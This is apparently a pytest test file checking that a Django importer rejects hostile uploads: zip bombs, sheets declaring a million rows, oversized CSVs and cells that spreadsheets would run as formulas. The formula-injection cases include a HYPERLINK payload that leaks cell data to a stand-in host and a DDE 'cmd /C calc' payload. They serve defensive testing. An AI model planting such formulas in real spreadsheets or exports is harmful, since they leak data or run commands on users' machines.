"""Files made to hurt the importer (docs/security.md, issue 10 items 9, 10 and 17): declared
sizes that would take gigabytes, zip bombs, formulas, absurd dates."""

import io
import re
import tracemalloc
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook

from engage.imports import reading
from engage.imports.models import ImportJob
from engage.imports.validation import check
from tests.imports.conftest import HEADERS, csv_bytes, messy_rows, xlsx_bytes
from tests.imports.test_import import mapping_for

pytestmark = pytest.mark.django_db


def _with_sheet_xml(data: bytes, change) -> bytes:
    """The workbook `data` with its first sheet's XML rewritten by `change`."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                content = change(content.decode()).encode()
            target.writestr(item.filename, content)
    return out.getvalue()


def _declaring_a_million_rows() -> bytes:
    """A tiny workbook that declares the largest sheet Excel allows and has its last row."""
    book = Workbook()
    book.active.append(["Prénom", "Nom"])
    book.active.append(["Amina", "Haddad"])
    plain = io.BytesIO()
    book.save(plain)

    def change(xml: str) -> str:
        xml = re.sub(r'<dimension ref="[^"]*"\s*/>', '<dimension ref="A1:XFD1048576"/>', xml)
        last = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
        return xml.replace("</sheetData>", last + "</sheetData>")

    return _with_sheet_xml(plain.getvalue(), change)


def _peak_while(function) -> tuple[int, Exception | None]:
    tracemalloc.start()
    error = None
    try:
        function()
    except Exception as raised:  # returned to the test, which checks its kind
        error = raised
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    return peak, error


def test_it_refuses_a_tiny_xlsx_declaring_a_million_rows_without_taking_memory():
    data = _declaring_a_million_rows()
    assert len(data) < 6000
    peak, error = _peak_while(lambda: reading.read("cases.xlsx", data))
    assert isinstance(error, reading.UnreadableFile)
    assert "more than 100000 lines" in str(error)
    assert peak < 40 * 2**20, f"{peak / 2**20:.0f} MB"


def test_it_ignores_a_declared_dimension_and_reads_what_is_there():
    data = _with_sheet_xml(
        xlsx_bytes(["Prénom", "Nom"], [["Amina", "Haddad"], ["Omar", "Farouk"]]),
        lambda xml: re.sub(r'<dimension ref="[^"]*"\s*/>', '<dimension ref="A1:XFD900000"/>', xml),
    )
    peak, _error = _peak_while(lambda: reading.read("cases.xlsx", data))
    sheet = reading.read("cases.xlsx", data)
    assert sheet.headers == ["Prénom", "Nom"]
    assert sheet.rows == [["Amina", "Haddad"], ["Omar", "Farouk"]]
    assert peak < 10 * 2**20


def test_it_refuses_a_zip_bomb_before_unpacking_it():
    plain = xlsx_bytes(["Prénom"], [["Amina"]])
    source = zipfile.ZipFile(io.BytesIO(plain))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            target.writestr(item.filename, source.read(item.filename))
        # 200 MB of one byte, a few hundred kilobytes once packed
        target.writestr("xl/sharedStrings2.xml", b"a" * (200 * 2**20))
    data = out.getvalue()
    assert len(data) < 2**20
    peak, error = _peak_while(lambda: reading.read("cases.xlsx", data))
    assert isinstance(error, reading.UnreadableFile)
    assert "unpacks to more than" in str(error)
    assert peak < 10 * 2**20


def test_it_refuses_a_csv_in_no_encoding_it_knows_with_the_way_out(as_user, ada):
    # Neither UTF-8 nor cp1252 (0x81 is undefined in it): a message by the field, not a 500.
    data = "Prénom;Nom\r\nA\x81b;C\r\n".encode("latin-1")
    with pytest.raises(reading.UnreadableFile, match="CSV UTF-8"):
        reading.read("caseload.csv", data)
    upload = SimpleUploadedFile("caseload.csv", data)
    response = as_user(ada).post("/imports/", {"file": upload})
    assert response.status_code == 200
    assert "save it as &quot;CSV UTF-8&quot;" in response.content.decode()
    assert not ImportJob.objects.exists()


def test_it_refuses_too_many_rows_and_columns_as_they_arrive():
    wide = csv_bytes([f"c{i}" for i in range(150)], [["x"] * 150])
    with pytest.raises(reading.UnreadableFile, match="more than 100 columns"):
        reading.read("wide.csv", wide)
    long = ("Prénom\n" + "Amina\n" * (reading.MAX_ROWS + 5)).encode()
    with pytest.raises(reading.UnreadableFile, match="more than 50000 rows"):
        reading.read("long.csv", long)
    # one line of a million separators: refused without a row of a million cells
    peak, error = _peak_while(lambda: reading.read("bomb.csv", b"a;b\n" + b";" * 10**6 + b"x\n"))
    assert isinstance(error, reading.UnreadableFile) and "columns" in str(error)
    assert peak < 60 * 2**20


@pytest.mark.parametrize(
    "city",
    [
        '=HYPERLINK("http://x.example/?"&A1,"y")',
        "@SUM(1+1)",
        "-2+3+cmd|' /C calc'!A0",
        "+A1",
        " =1+1",
        "\uff1dHYPERLINK()",
    ],
)
def test_it_refuses_a_cell_that_a_spreadsheet_would_run_as_a_formula(organisation, city):
    rows = messy_rows()[:2]
    rows[0][HEADERS.index("Notes")] = city
    rows[1][1] = city  # family name
    mapping = mapping_for(organisation)
    mapping.columns["Notes"] = "address"
    report = check(reading.read("x.csv", csv_bytes(HEADERS, rows)), mapping, organisation)
    formulas = [p for p in report.problems if "spreadsheet formula" in p["message"]]
    assert [(p["line"], p["field"]) for p in formulas] == [(2, "address"), (3, "family name")]
    assert not report.prepared


def test_a_phone_number_or_a_negative_number_is_not_a_formula():
    from engage.lib.spreadsheets import is_formula, neutralise

    assert not is_formula("+359 2 987 65 43") and not is_formula("-12.5")
    assert not is_formula("(0)6 12-34") and not is_formula("Ana-Maria")
    assert neutralise("+33 (0)6 12 34 56 78") == "+33 (0)6 12 34 56 78"
    assert neutralise("=1+1") == "'=1+1" and neutralise(3) == 3


@pytest.mark.parametrize(
    "text", [" =1+1", "\t@SUM(A1)", "\u00a0=cmd|' /C calc'!A0", "\n+A1", "\r-A1", "\uff1d1+1"]
)
def test_a_formula_behind_blanks_or_in_full_width_is_still_a_formula(text):
    """The check decides most text on its first character; text that starts with a blank is
    still stripped and read as a spreadsheet would."""
    from engage.lib.spreadsheets import is_formula, neutralise

    assert is_formula(text) and neutralise(text) == "'" + text
    assert not is_formula(" Sofia") and not is_formula("\t+359 2 987 65 43")


# Text a formula may start with, blanks before it, a NUL (which `any_formula` joins values
# with) and plain text: drawn into rows of values, some of them not text at all.
_PARTS = st.sampled_from(["=", "@", "+", "-", "\uff1d", "\uff0b", " ", "\t", "\n", "\u00a0",
                          "\x00", "1", "2.5", "A1", "Sofia", "'", ""])  # fmt: skip
_VALUES = st.one_of(
    st.lists(_PARTS, max_size=4).map("".join),
    st.text(max_size=6),
    st.sampled_from([None, 3, -2.5, b"=1"]),
)


@settings(max_examples=300, deadline=None)
@given(st.lists(_VALUES, max_size=8))
def test_a_row_has_a_formula_where_one_of_its_values_is_one(values):
    """`any_formula` (one search of a row's values joined) says what `is_formula` says of the
    values one by one, whatever the values: signs, blanks, NULs, text or not."""
    from engage.lib.spreadsheets import any_formula, is_formula

    expected = any(map(is_formula, values))
    assert any_formula(values) is expected
    assert any_formula(tuple(values)) is expected
    assert any_formula(dict(enumerate(values)).values()) is expected


@pytest.mark.parametrize("where", [0, 1, 5])
def test_a_formula_anywhere_in_a_row_is_found(where):
    from engage.lib.spreadsheets import any_formula

    values = ["Sofia", "", "+359 2 987 65 43", "2024-05", "a\x00b", "-12.5"]
    assert not any_formula(values)
    values[where] = " =HYPERLINK()"
    assert any_formula(values)
